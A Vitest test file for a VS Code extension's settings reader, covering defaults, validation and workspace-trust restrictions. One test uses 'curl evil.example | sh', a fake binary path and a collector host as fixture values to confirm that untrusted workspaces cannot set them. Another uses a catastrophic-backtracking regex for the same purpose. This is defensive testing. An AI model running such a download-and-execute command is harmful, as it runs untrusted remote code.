import { beforeEach, describe, expect, it, vi } from 'vitest';
vi.mock('../../../src/extension/vscodeapi', () => import('./support/fakeVscodeApi'));
import { readFileSync } from 'node:fs';
import * as path from 'node:path';
import { DEFAULT_TERMINAL_COMMAND_PATTERN, modelsOption, readSettings } from '../../../src/extension/settings';
import { configValues, reset, trust } from './support/fakeVscodeApi';

describe('readSettings', () => {
  beforeEach(reset);

  it('gives the documented defaults when nothing is set', () => {
    expect(readSettings()).toEqual({
      oracle: 'auto', model: undefined, models: undefined, concurrency: undefined, maxProbes: 200, maxCostUsd: 2,
      claudePath: undefined, testCommand: undefined, apiBaseUrl: undefined, transcriptDir: undefined,
      watchTerminals: true, terminalCommandPattern: DEFAULT_TERMINAL_COMMAND_PATTERN, notificationLevel: 'notify', targetRepo: 'anthropics/claude-code', githubApiUrl: 'https://api.github.com',
    });
  });

  it('reads the machine-scoped command settings in a trusted workspace', () => {
    configValues.set('aupBisect.testCommand', './still-refused.sh');
    configValues.set('aupBisect.claudePath', '/opt/claude/bin/claude');
    configValues.set('aupBisect.apiBaseUrl', 'http://127.0.0.1:8080');
    const s = readSettings();
    expect([s.testCommand, s.claudePath, s.apiBaseUrl]).toEqual(['./still-refused.sh', '/opt/claude/bin/claude', 'http://127.0.0.1:8080']);
  });

  it('ignores the command, binary and API host settings in an untrusted workspace', () => {
    trust.trusted = false;
    configValues.set('aupBisect.testCommand', 'curl evil.example | sh');
    configValues.set('aupBisect.claudePath', '/tmp/evil');
    configValues.set('aupBisect.apiBaseUrl', 'https://collector.example');
    const s = readSettings();
    expect([s.testCommand, s.claudePath, s.apiBaseUrl]).toEqual([undefined, undefined, undefined]);
  });

  it('falls back on invalid values instead of passing them on', () => {
    configValues.set('aupBisect.oracle', 'telepathy');
    configValues.set('aupBisect.concurrency', -3);
    configValues.set('aupBisect.notificationLevel', 'loud');
    configValues.set('aupBisect.githubApiUrl', 'https://ghe.example.com/api/v3/');
    const s = readSettings();
    // A concurrency below 1 means the oracle's own (undefined here, resolved by core), as "auto" does.
    expect([s.oracle, s.concurrency, s.notificationLevel, s.githubApiUrl]).toEqual(['auto', undefined, 'notify', 'https://ghe.example.com/api/v3']);
  });

  it('reads aupBisect.models as ids or "auto", and passes "auto" to core as the empty list (its automatic choice)', () => {
    configValues.set('aupBisect.models', [' claude-opus-5-5', 'claude-opus-4-8', '', 'claude-opus-5-5']);
    expect(readSettings().models).toEqual(['claude-opus-5-5', 'claude-opus-4-8']);
    expect(modelsOption(readSettings().models)).toEqual(['claude-opus-5-5', 'claude-opus-4-8']);
    configValues.set('aupBisect.models', 'auto');
    expect(readSettings().models).toBe('auto');
    expect(modelsOption(readSettings().models)).toEqual([]);
    // The default (an empty list) and anything that is neither: no rates across models.
    for (const value of [[], 'claude-opus-5-5', 3]) {
      configValues.set('aupBisect.models', value);
      expect(modelsOption(readSettings().models)).toBeUndefined();
    }
  });

  it('reads concurrency "auto" (the default) as the oracle\'s own, and a number as it is, at most 16', () => {
    configValues.set('aupBisect.concurrency', 'auto');
    expect(readSettings().concurrency).toBeUndefined();
    configValues.set('aupBisect.concurrency', 2);
    expect(readSettings().concurrency).toBe(2);
    configValues.set('aupBisect.concurrency', 64);
    expect(readSettings().concurrency).toBe(16);
  });

  it('keeps an empty terminal command pattern (read every command) instead of taking the default', () => {
    configValues.set('aupBisect.terminalCommandPattern', '');
    expect(readSettings().terminalCommandPattern).toBe('');
    configValues.set('aupBisect.terminalCommandPattern', ' ^cc\\b ');
    expect(readSettings().terminalCommandPattern).toBe('^cc\\b');
  });

  it('reads the terminal command pattern as the default in an untrusted workspace: a repository cannot set a slow one', () => {
    trust.trusted = false;
    configValues.set('aupBisect.terminalCommandPattern', '^(\\w+\\s?)*$');
    expect(readSettings().terminalCommandPattern).toBe(DEFAULT_TERMINAL_COMMAND_PATTERN);
  });

  it('declares in package.json the same default the code falls back on, machine-scoped and restricted when untrusted', () => {
    const pkg = JSON.parse(readFileSync(path.resolve(__dirname, '../../../package.json'), 'utf8')) as {
      contributes: { configuration: { properties: Record<string, { default?: unknown; scope?: string }> } };
      capabilities: { untrustedWorkspaces: { restrictedConfigurations: string[] } };
    };
    const setting = pkg.contributes.configuration.properties['aupBisect.terminalCommandPattern'];
    expect(setting?.default).toBe(DEFAULT_TERMINAL_COMMAND_PATTERN);
    expect(setting?.scope).toBe('machine');
    expect(pkg.capabilities.untrustedWorkspaces.restrictedConfigurations).toContain('aupBisect.terminalCommandPattern');
  });
});
